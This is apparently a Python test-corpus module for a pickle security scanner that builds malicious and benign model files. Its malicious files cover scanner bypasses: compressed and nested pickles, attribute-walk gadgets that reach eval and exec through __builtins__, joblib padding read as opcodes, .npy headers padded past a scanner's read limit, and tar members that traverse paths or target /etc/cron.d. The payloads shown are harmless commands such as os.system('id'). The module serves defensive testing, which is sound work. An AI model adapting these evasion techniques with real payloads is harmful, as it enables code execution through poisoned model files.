"""The 2025-26 pickle bypass classes (issue #11), as files: compressed pickles outside zips,
gadgets reached through attributes, .npy headers padded past a scanner's read, and TorchScript.

Modelled on published cases: compressed joblib/pickle artifacts that picklescan and modelscan
skipped (picklescan PR #68, modelscan PR #345), `numpy.__builtins__` + `dict.get` and
attribute walks on allowlisted names (modelscan #89, picklescan #66, the 2026-03 GHSAs), object
arrays behind long npy headers. Made with the real libraries where they install (numpy,
joblib, torch) and byte-exact from the format specs otherwise; a library that is missing only
means fewer files. Everything is built in memory; `corpus.write` puts it on disk.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import os
import pickle
import struct
import tarfile
import warnings
import zlib

import numpy as np
from corpus import Reduce, call, glob0, pickle_of, sbu, stack_global, torch_zip

EVIL = pickle.dumps(Reduce(os.system, "id"), protocol=4)


# --- 1. compressed pickles outside zips -------------------------------------------------------


def _joblib(value: object, compress: object) -> bytes | None:
    try:
        import joblib
    except ImportError:
        return None
    buf = io.BytesIO()
    joblib.dump(value, buf, compress=compress)
    return buf.getvalue()


def tar_gz(members: dict[str, bytes], mode: str = "w:gz") -> bytes:
    """A tar archive compressed by tarfile itself (gz, bz2 or xz)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _compressed_malicious() -> dict[str, bytes]:
    files = {
        "gzip_os_system.pkl.gz": gzip.compress(EVIL, mtime=0),
        "bz2_os_system.pkl.bz2": bz2.compress(EVIL),
        "xz_os_system.pkl.xz": lzma.compress(EVIL),
        "zlib_os_system.pkl": zlib.compress(EVIL),  # what joblib's zlib writes, by magic only
        "gzip_renamed_as_text.txt": gzip.compress(EVIL, mtime=0),
        "gzip_in_gzip_os_system.pkl.gz.gz": gzip.compress(gzip.compress(EVIL, mtime=0), mtime=0),
        # `cat a.gz b.gz`: gzip readers (pandas.read_pickle) read the members as one stream
        "gzip_split_members_os_system.pkl.gz": gzip.compress(EVIL[:9], mtime=0)
        + gzip.compress(EVIL[9:], mtime=0),
        "tar_gz_os_system.tar.gz": tar_gz({"model/model.pkl": EVIL}),
        "tgz_pickle_member_eval.tgz": tar_gz(
            {"pickle": pickle_of(call(glob0("builtins", "eval"), "1"), 2)}
        ),
        "tar_bz2_traversal.tar.bz2": tar_gz({"../../outside.pkl": EVIL}, "w:bz2"),
        "tar_xz_absolute.tar.xz": tar_gz({"/etc/cron.d/model.pkl": EVIL}, "w:xz"),
    }
    # joblib.dump(..., compress=...) in each of its codecs, the payload after an array (joblib
    # writes array bytes into the middle of its pickle: a walk that stops there misses it)
    for codec in ("zlib", "gzip", "bz2", "lzma", "xz"):
        data = _joblib({"w": np.ones(64), "hook": Reduce(os.system, "id")}, (codec, 3))
        if data is not None:
            files[f"joblib_{codec}_array_then_os_system.joblib"] = data
    data = _joblib({"w": np.ones(64), "hook": Reduce(os.system, "id")}, 0)
    if data is not None:
        files["joblib_array_then_os_system.joblib"] = data
        files["joblib_padding_is_opcodes.joblib"] = joblib_padding_payload()
    data = _joblib(
        {"w": np.ones(3), "labels": np.array([Reduce(os.system, "id")], dtype=object)}, 0
    )
    if data is not None:
        files["joblib_object_array_os_system.joblib"] = data
    return files


def every_dtype() -> dict[str, object]:
    """Arrays of every layout joblib writes inline: the scan must step over each exactly."""
    rng = np.random.default_rng(0)
    return {
        "f64": np.arange(1000.0),
        "i8": np.ones((3, 4), dtype=np.int8),
        "u8_noise": rng.integers(0, 256, 10_000, dtype=np.uint8),
        "text": np.array(["x", "yz"]),
        "bytes": np.array([b"ab", b"c"]),
        "objects": np.array([1, "a", None], dtype=object),
        "fortran": np.asfortranarray(np.ones((2, 3))),
        "empty": np.zeros((0, 3)),
        "scalar": np.float32(3.0),
        "record": np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8")]),
        "big_endian": np.arange(5, dtype=">i4"),
    }


def joblib_padding_payload(call_bytes: bytes = b"cos\ngetcwd\n)R.") -> bytes | None:
    """A joblib file whose array padding is opcodes: joblib.load skips them, pickle.load runs
    them (here os.getcwd(), harmless, but critical all the same)."""
    data = _joblib({"a": np.zeros(8, np.uint8)}, 0)
    if data is None:
        return None
    marker = b"numpy_array_alignment_bytes\x94K\x10ub"
    at = data.index(marker) + len(marker)
    old_padding = 1 + data[at]
    padding = b"(" + call_bytes.ljust(0x28, b"\xff")  # length byte 0x28 is MARK to pickle.load
    return data[:at] + padding + data[at + old_padding :]


def _compressed_benign() -> dict[str, bytes]:
    arrays = {"w": np.arange(12, dtype=np.float32).reshape(3, 4), "b": np.zeros(4)}
    files = {
        "pandas_style_frame.pkl.gz": gzip.compress(pickle.dumps(arrays, protocol=4), mtime=0),
        "numbers.pkl.bz2": bz2.compress(pickle.dumps(list(range(100)), protocol=2)),
        "config.json.gz": gzip.compress(b'{"hidden_size": 8}', mtime=0),
        "tokenizer.tar.gz": tar_gz(
            {"tok/vocab.txt": b"a\nb\n", "tok/state.pkl": pickle.dumps({"a": 1})}
        ),
    }
    state = {"classes": ["cat", "dog"], "coef": [[0.25, -1.5]], "n_iter": 7, "fitted": True}
    for codec in ("zlib", "gzip", "bz2", "lzma", "xz"):
        data = _joblib(state, (codec, 3))
        if data is not None:
            files[f"joblib_{codec}_estimator_state.joblib"] = data
        data = _joblib(every_dtype(), (codec, 3))
        if data is not None:
            files[f"joblib_{codec}_arrays.joblib"] = data
    data = _joblib(every_dtype(), 0)
    if data is not None:
        files["joblib_arrays_every_dtype.joblib"] = data
    return files


# --- 2. gadgets through attributes ------------------------------------------------------------


def _gadget_malicious() -> dict[str, bytes]:
    def eval_via(module: str, name: str) -> bytes:
        """`module` + `name` (a walk to `__builtins__.get`) called with "eval", then "1+1"."""
        get = stack_global(module, name)
        return pickle_of(get + b"(" + sbu("eval") + b"tR(" + sbu("1+1") + b"tR", 4)

    return {
        "gadget_torch_rebuild_builtins_get.pkl": eval_via(
            "torch._utils", "_rebuild_tensor_v2.__builtins__.get"
        ),
        "gadget_copyreg_builtins_get.pkl": eval_via("copyreg", "_reconstructor.__builtins__.get"),
        # an allowlisted name is no shelter: its function's __builtins__ is every builtin
        "gadget_allowlisted_numpy_ctor_builtins.pkl": pickle_of(
            glob0("builtins", "dict.get")
            + glob0("numpy.random._pickle", "__randomstate_ctor.__builtins__")
            + sbu("exec")
            + b"\x86R"
            + b"("
            + sbu("1")
            + b"tR",
            4,
        ),
        # modelscan #89: numpy.__builtins__ (a module's builtins dict) + builtins dict.get
        "gadget_numpy_module_builtins.pkl": pickle_of(
            glob0("builtins", "dict.get") + glob0("numpy", "__builtins__") + sbu("exec") + b"\x86R"
            b"(" + sbu("1") + b"tR",
            4,
        ),
        "gadget_object_subclasses.pkl": pickle_of(
            stack_global("builtins", "object.__subclasses__") + b")R", 4
        ),
        "gadget_int_class_base_subclasses.pkl": pickle_of(
            stack_global("builtins", "int.__class__.__base__.__subclasses__") + b")R", 4
        ),
        "gadget_function_globals.pkl": pickle_of(
            stack_global("collections", "namedtuple.__globals__.get") + b"(" + sbu("_sys") + b"tR",
            4,
        ),
        # getattr(getattr(copyreg._reconstructor, "__globals__"), ...): a chain of calls
        "gadget_getattr_chain.pkl": pickle_of(
            glob0("builtins", "getattr")
            + b"("
            + glob0("copyreg", "_reconstructor")
            + sbu("__globals__")
            + b"tR",
            4,
        ),
        "gadget_in_torch_zip.pt": torch_zip(
            pickle_of(
                stack_global("torch._utils", "_rebuild_tensor_v2.__builtins__.get")
                + b"("
                + sbu("exec")
                + b"tR("
                + sbu("1")
                + b"tR",
                4,
            )
        ),
    }


# --- 3. object .npy behind a padded header ----------------------------------------------------


def npy_with_header(array: np.ndarray, pad: int, version: int = 2) -> bytes:
    """`array` as numpy.save writes it, its header dict padded with `pad` spaces (v2/v3)."""
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=True)
    data = buf.getvalue()
    major = data[6]
    start = 10 if major == 1 else 12
    (length,) = struct.unpack("<H" if major == 1 else "<I", data[8:start])
    header, rest = data[start : start + length].rstrip(b"\n "), data[start + length :]
    total = len(header) + pad + 1
    total += (-(12 + total)) % 64  # numpy aligns the data to 64 bytes
    padded = header + b" " * (total - len(header) - 1) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<I", len(padded)) + padded + rest


def npz_of(members: dict[str, bytes]) -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _npy_malicious() -> dict[str, bytes]:
    evil = np.array([Reduce(os.system, "id"), 1], dtype=object)
    padded = npy_with_header(evil, 90_000)
    return {
        "npy_header_padded_90k.npy": padded,
        "npy_header_padded_1m_v3.npy": npy_with_header(evil, 1 << 20, version=3),
        "npz_member_header_padded.npz": npz_of({"ok.npy": _npy(np.ones(3)), "bad.npy": padded}),
    }


def _npy_benign() -> dict[str, bytes]:
    return {
        "npy_numeric_header_padded.npy": npy_with_header(np.arange(10), 90_000),
        "npy_objects_ints_padded.npy": npy_with_header(np.array([1, "a"], dtype=object), 4_000),
    }


def _npy(array: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array)
    return buf.getvalue()


# --- 4. TorchScript and real torch.save files -------------------------------------------------


@functools.lru_cache(maxsize=1)
def torch_files() -> dict[str, bytes]:
    """Real torch files: TorchScript, a state_dict (zip and legacy), a whole nn.Module."""
    try:
        import torch
        from torch_tiny import tiny_net
    except ImportError:
        return {}
    module = tiny_net()
    files = {}
    for name, value, legacy in (
        ("torch_state_dict.pt", module.state_dict(), False),
        ("torch_state_dict_legacy.pt", module.state_dict(), True),
        ("torch_full_module.pt", module, False),
    ):
        buf = io.BytesIO()
        torch.save(value, buf, _use_new_zipfile_serialization=not legacy)
        files[name] = buf.getvalue()
    buf = io.BytesIO()
    with warnings.catch_warnings():  # torch 2.10+ deprecates TorchScript; files still exist
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(module), buf)
    files["torchscript_module.pt"] = buf.getvalue()
    return files


# --- the corpora ------------------------------------------------------------------------------


def malicious_files() -> dict[str, bytes]:
    """name -> bytes; each file runs a code-running callable when its loader opens it."""
    return {**_compressed_malicious(), **_gadget_malicious(), **_npy_malicious()}


def benign_files() -> dict[str, bytes]:
    """name -> bytes; nothing here runs code beyond rebuilding data (the full nn.Module imports
    its own class: unverified, medium, never critical)."""
    return {**_compressed_benign(), **_npy_benign(), **torch_files()}
